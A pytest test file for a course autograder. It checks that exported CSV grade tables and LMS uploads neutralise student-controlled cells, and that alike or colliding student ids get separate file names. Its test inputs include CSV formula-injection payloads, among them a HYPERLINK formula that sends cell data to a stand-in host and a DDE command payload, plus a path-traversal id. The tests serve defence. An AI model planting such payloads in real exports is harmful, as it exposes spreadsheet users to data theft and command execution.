"""What students control in the exports: no CSV cell a spreadsheet would run as a formula (gradebook.csv, the
report's tables, the LMS uploads), and one file per student however alike their ids are."""

from __future__ import annotations

import csv
import html
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from autograder import results as grading_results
from autograder.bridge import codec
from autograder.gradebook import Gradebook, OutputError, similar_id_notes, student_file_name, student_file_names
from autograder.report import build_report
from autograder.report.tables import write_csv

# One text per character a spreadsheet reads as the start of a formula (OWASP's list).
FORMULAS = {"=": '=HYPERLINK("http://x.example/?q="&A1,"click")', "+": "+1+cmd|' /C calc'!A0", "-": "-2+3",
            "@": "@SUM(A1:A9)", "tab": "\t=1+1", "carriage return": "\r=1+1"}

RUBRIC = """
assignment: mini
title: Mini
due: 2026-03-01T12:00:00+00:00
questions:
  q1: 4
grades: {A: 50, F: 0}
"""


def result(student: str, points: float, display_name: str = "", message: str = "",
           loss=None) -> grading_results.SubmissionResult:
    test = grading_results.TestOutcome("test_a", points, 4.0, points == 4.0, True, message)
    question = grading_results.QuestionResult("q1", points, 4.0, [test])
    if loss is not None:
        question.artifacts = {"history.loss": codec.encode(np.asarray(loss, dtype=float), None)}
    graded = grading_results.SubmissionResult(student, f"{student}.ipynb", "mini", "v1", "g1", f"hash-{student}",
                                              questions=[question], display_name=display_name)
    if message:
        graded.raise_status("invalid-notebook", message)
    return graded


def rows_of(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def quoted(text: str) -> str:
    return "'" + text


def test_gradebook_csv_cells_a_student_chose_are_never_formulas(tmp_path):
    with Gradebook(tmp_path, "mini") as book:
        for points, text in enumerate(FORMULAS.values()):
            graded = result(text, points * 0.5, message=f"{text}.ipynb: not a notebook")
            graded.submission = f"{text}.ipynb"
            book.record(graded)
        book.export(["q1"])
    header, *rows = rows_of(tmp_path / "gradebook.csv")
    assert header == ["student", "submission", "q1", "total", "max_total", "status", "message"]
    by_student = {row[0]: row for row in rows}
    for points, text in enumerate(FORMULAS.values()):
        student, submission, q1, total, max_total, status, message = by_student[quoted(text)]
        assert submission == quoted(f"{text}.ipynb")
        assert message == quoted(f"{text}.ipynb: not a notebook")
        assert (q1, total, max_total, status) == (f"{points * 0.5:g}", f"{points * 0.5:g}", "4", "invalid-notebook")


@pytest.fixture
def graded_class(tmp_path) -> dict[str, Path]:
    """A gradebook of students whose ids, display names and e-mails start with each formula character."""
    root, grades = tmp_path / "course", tmp_path / "graded"
    (root / "rubrics").mkdir(parents=True)
    (root / "rubrics" / "mini.yml").write_text(RUBRIC)
    with Gradebook(grades, "mini") as book:
        for points, text in enumerate(FORMULAS.values()):
            book.record(result(f"{text} id", float(points % 5), display_name=f"{text} name",
                               message=f"{text}.ipynb: not a notebook"))
    build_report("mini", grades, root=root)
    return {"out": grades / "report"}


def test_the_reports_tables_have_no_formulas_and_keep_their_numbers(graded_class):
    header, *rows = rows_of(graded_class["out"] / "grades.csv")
    assert header[:4] == ["student", "q1", "auto", "manual"]
    by_student = {row[0]: dict(zip(header, row)) for row in rows}
    for points, text in enumerate(FORMULAS.values()):
        row = by_student[quoted(f"{text} id")]
        assert float(row["q1"]) == float(row["final"]) == points % 5
        assert float(row["percent"]) == 25 * (points % 5) and row["status"] == "invalid-notebook"
    questions = pd.read_csv(graded_class["out"] / "questions.csv")
    assert questions["max"].tolist() == [4] and questions["students"].tolist() == [len(FORMULAS)]
    tests = pd.read_csv(graded_class["out"] / "tests.csv")
    assert tests["max_points"].tolist() == [4.0]
    assert tests["full_marks_rate"].tolist() == [pytest.approx(1 / 6, abs=1e-6)]


def test_every_text_cell_and_header_of_a_table_is_neutralised_and_numbers_are_not(tmp_path):
    notes = ["-", "Bob\r=1+1", "Bob\n=1+1", *["fine"] * (len(FORMULAS) - 3)]
    table = pd.DataFrame({"-name": [*FORMULAS.values()], "points": [-1.5] * len(FORMULAS),
                          "count": list(range(len(FORMULAS))), "note": notes})
    header, *rows = rows_of(write_csv(table, tmp_path / "table.csv"))
    assert header == ["'-name", "points", "count", "note"]
    assert [row[0] for row in rows] == [quoted(text) for text in FORMULAS.values()]
    assert [(row[1], row[2]) for row in rows] == [("-1.5", str(index)) for index in range(len(FORMULAS))]
    # one character alone is no formula (Moodle's "no date"); a line break inside a cell stays inside it (quoted),
    # so no text after it starts a row of its own
    assert [row[3] for row in rows] == notes


def test_lms_uploads_have_no_formulas_and_keep_points_as_numbers(graded_class):
    lms = graded_class["out"] / "lms"
    canvas = rows_of(lms / "canvas.csv")
    assert canvas[1] == ["    Points Possible", "", "", "", "", "4"]
    gradescope = {row[1]: row for row in rows_of(lms / "gradescope.csv")[1:]}
    moodle = {row[0]: row for row in rows_of(lms / "moodle.csv")[1:]}
    canvas_rows = {row[1]: row for row in canvas[2:]}
    for points, text in enumerate(FORMULAS.values()):
        name, student_id, *_, score = canvas_rows[quoted(f"{text} id")]
        assert (name, score) == (quoted(f"{text} name"), f"{points % 5}")
        name, _, score = gradescope[quoted(f"{text} id")]
        assert (name, score) == (quoted(f"{text} name"), f"{points % 5}")
        row = moodle[f"Participant {text} id"]  # starts with "Participant": no formula
        assert (row[1], row[3], row[4]) == (quoted(f"{text} name"), f"{points % 5:.2f}", "4.00")


ALIKE = {"alice": 1.0, "alice_": 2.0, "alice/": 3.0, "Alice": 4.0}  # one file name each before, on a Mac


def test_ids_that_made_the_same_file_name_get_files_and_pages_of_their_own(tmp_path):
    root, grades = tmp_path / "course", tmp_path / "graded"
    (root / "rubrics").mkdir(parents=True)
    (root / "rubrics" / "mini.yml").write_text(RUBRIC)
    with Gradebook(grades, "mini") as book:
        for student, points in ALIKE.items():
            book.record(result(student, points, loss=[points, points / 2]))
        (grades / "results" / "Alice.json").write_text("{}")  # as an older grader named Alice's (or alice's) file
        book.export(["q1"])
    stems = {student: student_file_name(student) for student in ALIKE}
    assert len({stem.casefold() for stem in stems.values()}) == len(ALIKE)
    assert stems["alice"] == "alice"  # a plain id keeps its name
    results = {path.stem: json.loads(path.read_text()) for path in (grades / "results").glob("*.json")}
    assert sorted(results) == sorted(stems.values())
    for student, points in ALIKE.items():
        assert (results[stems[student]]["student"], results[stems[student]]["total"]) == (student, points)
        loss = np.load(grades / "artifacts" / stems[student] / "q1.history.loss.npy", allow_pickle=False)
        assert loss.tolist() == [points, points / 2]

    for _ in range(2):  # a second report finds and writes the same files
        build_report("mini", grades, root=root)
        folder = grades / "report" / "students"
        pages = {path.stem: path.read_text(encoding="utf-8") for path in folder.glob("*.html")}
        assert sorted(pages) == sorted(stems.values())
        for student, points in ALIKE.items():
            page = pages[stems[student]]
            assert f"feedback for {html.escape(student)}</h1>" in page, student
            assert f"<strong>{points:g}</strong> of 4" in page and "q1: training curves" in page, student
    index = (grades / "report" / "index.html").read_text(encoding="utf-8")
    for student in ALIKE:
        assert f"<a href='students/{stems[student]}.html'>{html.escape(student)}</a>" in index, student
    # The tutor is told which ids are alike and where each one's results are.
    notes = similar_id_notes(ALIKE)
    assert len(notes) == 1 and all(repr(student) in notes[0] and f"results/{stems[student]}.json" in notes[0]
                                   for student in ALIKE), notes


def test_file_names_are_deterministic_and_never_shared(tmp_path):
    for plain in ("alice", "s000", "student_3", "12345", "bug_global_rng", "a.b-c", "u-12345678"):
        assert student_file_name(plain) == plain
    hashed = {student: student_file_name(student) for student in
              ("alice_", "Alice", "ALICE", "Zoë", "Zoe\u0308", "con", "../etc/passwd", "", "a" * 200, "alice ")}
    assert all(name == student_file_name(student) for student, name in hashed.items())  # the same in every run
    assert len({name.casefold() for name in hashed.values()} | {"alice"}) == len(hashed) + 1
    assert all("/" not in name and len(name) <= 117 for name in hashed.values())
    # an id chosen to look like another id's hashed name gets a hash of its own instead of taking that file
    lookalike = student_file_name("alice_")
    assert student_file_name(lookalike) != lookalike
    assert student_file_names(["alice", "alice_"]) == {"alice": "alice", "alice_": lookalike}


# Two ids whose SHA-256 share their first 10 hex digits (found by a birthday search of a second); with 16 digits
# such a pair costs about 2**32 hashes, and finding an id for another student's name about 2**64.
COLLIDING = ("alice!=#*$", "alice!@|>$")


def test_two_ids_whose_file_names_collide_are_refused_before_a_file_is_overwritten(tmp_path, monkeypatch):
    import autograder.gradebook as gradebook

    monkeypatch.setattr(gradebook, "FILE_NAME_HASH_DIGITS", 10)
    first, second = COLLIDING
    assert student_file_name(first) == student_file_name(second) == "alice-9d1ffc722b"
    with Gradebook(tmp_path, "mini") as book:
        book.record(result(first, 4.0, loss=[4.0, 2.0]))
        with pytest.raises(OutputError, match=r"students 'alice!=#\*\$' and 'alice!@\|>\$' would share the file "
                                              r"name 'alice-9d1ffc722b'.*change one of the ids"):
            book.record(result(second, 0.0, loss=[0.0]))
        assert [r.student for r in book.current_results()] == [first]
    saved = json.loads((tmp_path / "results" / "alice-9d1ffc722b.json").read_text())
    assert (saved["student"], saved["total"]) == (first, 4.0)
    loss = np.load(tmp_path / "artifacts" / "alice-9d1ffc722b" / "q1.history.loss.npy", allow_pickle=False)
    assert loss.tolist() == [4.0, 2.0]
